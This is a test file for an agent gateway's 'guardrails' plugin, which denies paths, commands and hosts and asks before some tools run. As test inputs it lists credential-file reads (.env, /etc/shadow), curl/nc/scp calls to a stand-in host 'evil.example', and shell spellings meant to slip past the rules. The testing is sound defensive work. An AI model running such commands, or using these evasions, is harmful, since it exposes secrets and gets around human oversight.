// The bundled plugin `guardrails`: what its rules cover, as a table, and how a real gateway holds the agent to them.
import assert from 'node:assert/strict';
import { symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { commandRule, findCommand } from '../../../plugins/guardrails/commands.ts';
import { findHost, hostRule } from '../../../plugins/guardrails/hosts.ts';
import { findPath, findPlace, pathRule } from '../../../plugins/guardrails/paths.ts';
import { openWithPlugin } from '../../support/bundled-plugin.ts';

const config = {
  denyPaths: ['.env', '*.pem', 'secrets', 'config/keys', '/etc'],
  denyCommands: ['rm', 'git push'],
  denyHosts: ['evil.example', '*.bad.example', '10.0.0.1'],
  ask: ['write'],
};
const paths = config.denyPaths.map(pathRule);
const commands = config.denyCommands.map(commandRule);
const hosts = config.denyHosts.map(hostRule);

test('a path rule covers what it names, however it is written, and what is below it', () => {
  const denied = ['.env', './.env', 'a/../.env', 'deep/.ENV', 'key.pem', 'a/b/x.pem', 'secrets/a/b', '/home/me/secrets/x', 'a\\secrets\\x'];
  const more = ['config/keys', 'x/config/./keys/one', '/etc/passwd', '/etc', '../../../etc/passwd', '~/../etc/shadow', 'x//secrets'];
  for (const path of [...denied, ...more]) assert.ok(findPath({ path }, paths, false), path);
  for (const path of ['.env.example', 'env', 'pem', 'secrets.md', 'config/other', 'keys', 'etc/hosts', 'src/etc', 'a/secrets/../b'])
    assert.equal(findPath({ path }, paths, false), undefined, path);
  assert.equal(findPath({ path: 'notes.md', content: 'see .env and /etc' }, paths, false), undefined, 'what is written is no path');
  const patch = (line: string) => findPath({ patch: `*** Begin Patch\n${line}\n*** End Patch` }, paths, false);
  for (const line of ['*** Add File: secrets/new', '*** Update File: a\n*** Move to: .env', '*** Delete File: x.pem'])
    assert.ok(patch(line), line);
  assert.equal(patch('*** Add File: a.md\n+.env is secret'), undefined);
});

test('a path rule covers words of programs, and what a shell would make of them', () => {
  const run = (command: string, more: object = {}) => findPath({ command, ...more }, paths, true);
  for (const command of [
    'cat .env',
    'cat ./.e""nv',
    "cat '.env'",
    'cat .en*',
    'cat .e[n]v',
    'cp a secret?/x',
    'dd if=.env',
    'x --file=a.pem',
    'cat<.env',
  ])
    assert.ok(run(command), command);
  assert.ok(findPath({ argv: ['cat', 'secrets/x'] }, paths, true));
  assert.ok(run('cat keys', { cwd: 'config' }), 'from the folder it runs in');
  for (const command of ['cat .env.example', 'npm test', 'ls src/*.ts']) assert.equal(run(command), undefined, command);
});

test('a path rule covers the places that a call really touches, and no name above the workspace', () => {
  const find = (place: string, workspace = '/home/me/secrets/work') => findPlace([place], workspace, paths);
  for (const place of ['/home/me/secrets/work/.env', '/home/me/secrets/work/a/secrets/x', '/etc/passwd', '/home/you/secrets/x'])
    assert.ok(find(place), place);
  for (const place of ['/home/me/secrets/work', '/home/me/secrets/work/open.md', '/srv/etc/x']) assert.equal(find(place), undefined, place);
  assert.ok(find('/etc/work/x', '/etc/work'), 'a rule about a place of the machine holds there too');
});

test('a command rule covers its first words, behind others that run programs too', () => {
  const run = (command: string) => findCommand({ command }, commands);
  for (const command of [
    'rm a',
    '/bin/rm a',
    'RM a',
    '"rm" a',
    'r\\m a',
    'X=1 rm a',
    'true && rm a',
    'a; rm b',
    'echo $(rm a)',
    'a | xargs rm',
  ])
    assert.ok(run(command), command);
  for (const command of [
    'sudo -n rm a',
    'sh -c "rm a"',
    'find . -exec rm {} +',
    'git push',
    'git -C x push origin',
    'env A=1 git push',
    'a\nrm b',
  ])
    assert.ok(run(command), command);
  assert.ok(findCommand({ argv: ['sh', '-c', 'cd x; rm -r y'] }, commands));
  assert.ok(findCommand({ argv: ['git', 'push'] }, commands));
  for (const command of ['ls rm', 'git status', 'git pull', 'rmdir a', 'npm rm', 'cat push'])
    assert.equal(run(command), undefined, command);
});

test('a host rule covers the name and all below it, in addresses and in words of programs', () => {
  const spelled = [
    'https://evil.example/x',
    'http://EVIL.example.',
    'https://a.b.evil.example:8443/?q',
    'https://me:pw@evil.example/',
    'https:\\\\evil.example',
  ];
  for (const url of [...spelled, 'http://x.bad.example', 'http://bad.example', 'http://10.0.0.1', 'http://0xa.1', 'http://167772161/'])
    assert.ok(findHost({ url }, hosts), url);
  for (const command of [
    'curl evil.example',
    'curl -s https://evil.example/a',
    'ssh me@evil.example',
    'scp a me@evil.example:b',
    'nc evil.example 80',
    'x --to=evil.example:1',
  ])
    assert.ok(findHost({ command }, hosts), command);
  for (const url of ['https://example.com', 'https://notevil.example', 'https://good.example/?to=evil', 'http://10.0.0.2'])
    assert.equal(findHost({ url }, hosts), undefined, url);
});

test('the agent is told which rule stands in its way, is asked for where the rules say so, and goes on with the rest', async () => {
  await using talk = await openWithPlugin('guardrails');
  const { plugin } = await talk.ask('plugins.config', { id: 'guardrails', config });
  assert.equal(plugin.state, 'loaded', plugin.reason);
  assert.equal((await talk.refused('plugins.config', { id: 'guardrails', config: { denyPaths: 'x' } })).code, 'INVALID_REQUEST');
  const sessionKey = 'agent:main:guarded';
  await talk.ask('sessions.create', { key: sessionKey, permissions: 'bypass' });
  assert.equal(
    await talk.type(sessionKey, '/guardrails'),
    [
      'Denied paths: .env, *.pem, secrets, config/keys, /etc',
      'Denied commands: rm, git push',
      'Denied hosts: evil.example, bad.example, 10.0.0.1',
      'Tools that ask first: write',
    ].join('\n'),
  );
  writeFileSync(join(talk.workspace(), '.env'), 'KEY=hidden');
  writeFileSync(join(talk.workspace(), 'open.md'), 'in the open');
  symlinkSync('.env', join(talk.workspace(), 'harmless.md'));

  const calls: [string, object, RegExp][] = [
    ['read', { path: '.env' }, /^Blocked by guardrails: the path "\.env" is denied by the rule "\.env"$/],
    ['exec', { command: 'cat .env' }, /^Blocked by guardrails: the path "\.env" is denied/],
    ['read', { path: 'harmless.md' }, /^Blocked by guardrails: the path "\.env" is denied by the rule "\.env"$/],
    ['exec', { command: 'cat harmless.md' }, /^Blocked by guardrails: the path "\.env" is denied/],
    [
      'exec',
      { command: 'cat ~/../../../../../../etc/hostname' },
      /^Blocked by guardrails: the path ".*etc\/hostname" is denied by the rule "\/etc"$/,
    ],
    ['exec', { command: 'rm open.md' }, /^Blocked by guardrails: the command "rm open\.md" is denied by the rule "rm"$/],
    [
      'web_fetch',
      { url: 'https://www.evil.example/' },
      /^Blocked by guardrails: the host "www\.evil\.example" is denied by the rule "evil\.example"$/,
    ],
    ['read', { path: 'open.md' }, /in the open/],
  ];
  for (const [name, args, expected] of calls) {
    talk.server.next({ calls: [{ name, arguments: args }] }, { text: 'Done.' });
    await talk.say('Go', { sessionKey });
    assert.match((await talk.results(sessionKey)).at(-1)!.text, expected);
  }
  assert.ok(!JSON.stringify(await talk.history(sessionKey)).includes('KEY=hidden'));

  for (const [name, args] of [
    ['write', { path: 'new.md', content: 'x' }],
    ['grep', { pattern: 'KEY' }],
  ] as const) {
    talk.server.next({ calls: [{ name, arguments: args }] }, { text: 'Done.' });
    const runId = await talk.send('Go', { sessionKey });
    const approval = await talk.question(runId);
    assert.equal(approval.title, `May the agent use ${name}?`);
    await talk.answer(approval, 'deny');
    await talk.ended(runId);
    assert.match((await talk.results(sessionKey)).at(-1)!.text, /operator denied/);
  }
});
